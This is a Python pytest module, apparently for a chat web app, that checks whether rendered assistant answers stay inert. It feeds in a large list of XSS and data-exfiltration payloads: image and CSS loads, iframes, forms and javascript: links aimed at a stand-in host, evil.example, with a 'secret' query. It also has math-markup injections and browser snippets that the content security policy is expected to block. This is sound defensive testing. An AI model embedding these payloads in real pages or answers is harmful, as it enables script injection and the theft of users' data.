"""What a model or a document makes of an answer loads nothing, runs nothing and leads nowhere but to the web."""

from __future__ import annotations

import json

import pytest

from tests.contract.page.world import Shown, World

EVIL = "https://evil.example/leak?q=secret"
ATTACKS = (
    # images, which would carry data away
    f"![a]({EVIL})",
    f"![a][ref]\n\n[ref]: {EVIL}",
    f"| a |\n| - |\n| ![a]({EVIL}) |",
    f"- ![a]({EVIL})",
    f"> ![a](<{EVIL}>)",
    f"[![a]({EVIL})]({EVIL})",
    "![a](//evil.example/leak)",
    "![a](/v1/admin/keys)",
    "![a](data:image/svg+xml,<svg onload=alert(1)>)",
    f'![a]({EVIL} "onerror=alert(1)")',
    # raw HTML
    f"<img src='{EVIL}'>",
    f"text <img src='{EVIL}' onerror='alert(1)'> text",
    f"<img srcset='{EVIL} 1x'>",
    f"<picture><source srcset='{EVIL}'></picture>",
    f"<svg><image href='{EVIL}'/></svg>",
    "<svg onload=alert(1)>",
    f"<style>@import url({EVIL});</style>",
    f"<style>body {{ background: url({EVIL}) }}</style>",
    f"<p style='background: url({EVIL})'>text</p>",
    f"<link rel=stylesheet href='{EVIL}'>",
    f"<link rel=dns-prefetch href='{EVIL}'>",
    f"<link rel=preload as=image href='{EVIL}'>",
    f"<iframe src='{EVIL}'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    f"<object data='{EVIL}'></object>",
    f"<embed src='{EVIL}'>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    "<base href='https://evil.example/'>",
    f"<form action='{EVIL}'><button>Go on</button></form>",
    f"<form><button formaction='{EVIL}'>Go on</button></form>",
    f"<video src='{EVIL}' autoplay></video>",
    f"<video poster='{EVIL}'></video>",
    f"<audio src='{EVIL}'></audio>",
    f"<a href='{EVIL}' ping='{EVIL}'>text</a>",
    f"<script src='{EVIL}'></script>",
    "<script>alert(1)</script>",
    "<details open ontoggle=alert(1)>text</details>",
    "<input autofocus onfocus=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    # links
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](&#106;avascript:alert(1))",
    "[a](java&#10;script:alert(1))",
    "[a](%6Aavascript:alert(1))",
    "<javascript:alert(1)>",
    "[a](data:text/html,<script>alert(1)</script>)",
    "[a](vbscript:msgbox(1))",
    "[a](file:///etc/passwd)",
    "[a](//evil.example/leak)",
    "[a](/auth/logout)",
    "[a](https://user:pass@evil.example/)",
    "[a][ref]\n\n[ref]: javascript:alert(1)",
    "[a](<javascript:alert(1)> 'title')",
    '<https://evil.example/" onmouseover="alert(1)>',
    "[a](blob:https://evil.example/1)",
    "[a](mailto:evil@evil.example?body=secret)",
    # text that ends what it is in
    "```html\n<img src=x onerror=alert(1)>\n```",
    '```"><img src=x onerror=alert(1)>\ntext\n```',
    "`<img src=x onerror=alert(1)>`",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "# <img src=x onerror=alert(1)>",
    "\u2045999\u2046 \u20451\u2046",
    "\u202etxt.exe \u0000 \ufeff",
    # formulas
    "$$\\href{javascript:alert(1)}{a}$$",
    f"$\\includegraphics{{{EVIL}}}$ and $\\url{{{EVIL}}}$",
    "$\\text{<img src=x onerror=alert(1)>}$ \\(\\texttt{</mtext><script>alert(1)</script>}\\)",
    "$$\\class{send}{x}$$ $\\id{message}{x}$ $$\\style{position:fixed;inset:0}{x}$$ $\\data{on=alert}{x}$",
    "$$\\toggle{a}{b}\\endtoggle$$ $\\color{red}{x}$ $$\\rule{999em}{999em}\\hspace{-900em}\\raisebox{99em}{x}$$",
    "$\\def\\a#1{#1#1\\a{#1#1}}\\a{x}$",
    "[a]: <img src=x onerror=alert(1)>\n\n[a]",
    "<<script>alert(1)//<</script>",
    "<img\nsrc=x\nonerror=alert(1)>",
    "{{constructor.constructor('alert(1)')()}}",
    "\\<img src=x onerror=alert(1)\\>",
    '<a href="jav&#x09;ascript:alert(1)">text</a>',
    "<x onclick=alert(1)>text</x>",
    "~~<img src=x onerror=alert(1)>~~",
    "1. <img src=x onerror=alert(1)>\n   <img src=x onerror=alert(1)>",
    "|<img src=x onerror=alert(1)>|\n|-|\n|<script>alert(1)</script>|",
    "**<svg/onload=alert(1)>**",
    "<portal src='https://evil.example/'></portal>",
)
ALLOWED = {
    *(
        "A",
        "B",
        "BLOCKQUOTE",
        "BR",
        "BUTTON",
        "CODE",
        "DEL",
        "DIV",
        "EM",
        "FIGCAPTION",
        "FIGURE",
        "H3",
        "H4",
        "H5",
        "H6",
    ),
    *("MATH", "MFRAC", "MI", "MN", "MO", "MPADDED", "MROW", "MSPACE", "MSTYLE", "MSUP", "MTEXT"),
    *("HR", "LI", "OL", "P", "PATH", "PRE", "SPAN", "STRONG", "SVG", "TABLE", "TBODY", "TD", "TH", "THEAD", "TR", "UL"),
}
ATTRIBUTES = {
    *("aria-hidden", "aria-label", "class", "d", "dir", "href", "rel", "role", "start", "tabindex", "target", "title"),
    *("type", "viewBox"),
    *("display", "displaystyle", "height", "mathvariant", "scriptlevel", "voffset", "width"),
}
FOUND = f"""[...document.querySelectorAll(".answer .text *")].flatMap((one) => [
  ...({json.dumps(sorted(ALLOWED))}.includes(one.tagName.toUpperCase()) ? [] : [one.outerHTML]),
  ...[...one.attributes].map(({{ name }}) => name).filter((name) => !{json.dumps(sorted(ATTRIBUTES))}.includes(name)),
  ...(one.tagName === "A" && !/^https?:/.test(one.href) ? [one.href] : []),
])"""
PRESSED = """Promise.all([...document.querySelectorAll(".answer .text button")].map((one) => one.click()))
  .then(() => new Promise((done) => setTimeout(done, 50)))"""


@pytest.fixture(scope="module")
def conversation(world: World) -> str:
    """All attacks as answers that were given before."""
    id: str = world.http.post("/v1/conversations", json={}).json()["id"]
    for first in range(0, len(ATTACKS), 20):
        turn = [{"role": "assistant", "content": each.replace("\0", "")} for each in ATTACKS[first : first + 20]]
        answer = world.http.post(f"/v1/conversations/{id}/items", json={"items": turn})
        assert answer.status_code == 200, answer.text
    return id


def harmless(world: World, shown: Shown) -> None:
    page = shown.page
    page.evaluate("window.alert = () => { window.attacked = true; }")
    assert page.evaluate(FOUND) == []
    page.evaluate(PRESSED)
    page.settle()
    assert [url for url in page.requests if not url.startswith((f"{world.up.url}/", "data:image/svg+xml,%3Csvg"))] == []
    asked = {url.removeprefix(world.up.url).partition("?")[0] for url in page.requests}
    assert not [path for path in asked if "admin" in path or "logout" in path]
    assert page.complaints == []
    assert page.evaluate("window.attacked") is None
    assert page.evaluate("location.origin") == world.up.url


def test_answers_of_before_do_nothing(world: World, conversation: str) -> None:
    assert len(ATTACKS) >= 80
    with world.page(f"/c/{conversation}") as shown:
        shown.answered(len(ATTACKS))
        shown.there("math mtext", "<img")
        harmless(world, shown)
        assert shown.count(".image") >= 9
        assert "evil.example" in shown.text(".image")


def test_a_streamed_answer_does_nothing(world: World) -> None:
    world.engine.says["Attack me"] = "\n\n".join(each.replace("\0", "") for each in ATTACKS)
    with world.page() as shown:
        shown.ask("Attack me.")
        shown.answered()
        shown.there("math mtext", "<img")
        harmless(world, shown)


REFUSED = """(() => { try { %s; return "done"; } catch (error) { return error.name; } })()"""
VIOLATES = """new Promise((done) => {
  addEventListener("securitypolicyviolation", (event) => done(event.effectiveDirective), { once: true });
  setTimeout(() => done("nothing"), 5000);
  %s;
})"""
TRIES = {
    "img-src": VIOLATES % f"new Image().src = '{EVIL}'",
    "connect-src": VIOLATES % f"fetch('{EVIL}').catch(() => {{}})",
    "frame-src": VIOLATES % f"const f = document.createElement('iframe'); f.src = '{EVIL}'; document.body.append(f)",
    "style-src-elem": VIOLATES
    % f"const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = '{EVIL}'; document.head.append(l)",
    "form-action": VIOLATES
    % f"const f = document.createElement('form'); f.action = '{EVIL}'; document.body.append(f); f.submit()",
    "base-uri": VIOLATES % f"const b = document.createElement('base'); b.href = '{EVIL}'; document.head.append(b)",
    "media-src": VIOLATES % f"const v = document.createElement('video'); v.src = '{EVIL}'; document.body.append(v)",
}
"""What a script of the page itself could try, if an attack ever got that far, by the directive that refuses it."""
STRINGS = {
    "HTML": REFUSED % "document.body.innerHTML = '<b>a</b>'",
    "a document": REFUSED % "document.write('<b>a</b>')",
    "a program": REFUSED % "setTimeout('1')",
    "a script": REFUSED % f"document.createElement('script').src = '{EVIL}'",
    "a plug-in": REFUSED % f"document.createElement('object').data = '{EVIL}'",
    "a policy": REFUSED % "trustedTypes.createPolicy('evil', {})",
}


def test_the_policy_holds_where_the_page_would_not(world: World) -> None:
    with world.page() as shown:
        for directive, attempt in TRIES.items():
            assert shown.page.evaluate(attempt) == directive
        for what, attempt in STRINGS.items():
            assert shown.page.evaluate(attempt) == "TypeError", what
